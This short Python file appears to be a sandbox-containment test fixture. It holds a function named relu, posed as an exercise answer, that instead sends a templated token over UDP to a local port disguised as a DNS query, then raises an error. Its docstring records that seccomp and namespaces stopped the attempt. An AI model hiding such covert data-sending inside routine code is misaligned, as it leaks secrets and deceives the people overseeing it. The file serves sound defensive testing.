"""
Tries: to send what it has seen by UDP, as a query of the name service would carry it.
Exercise: relu
Allowed: failed
Shows: heard
Stopped by: seccomp, namespaces
"""
import socket


def relu(z):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(b"\x01\x00{{token}}", ("127.0.0.1", {{udp}}))
    raise LookupError


relu_derivative = relu
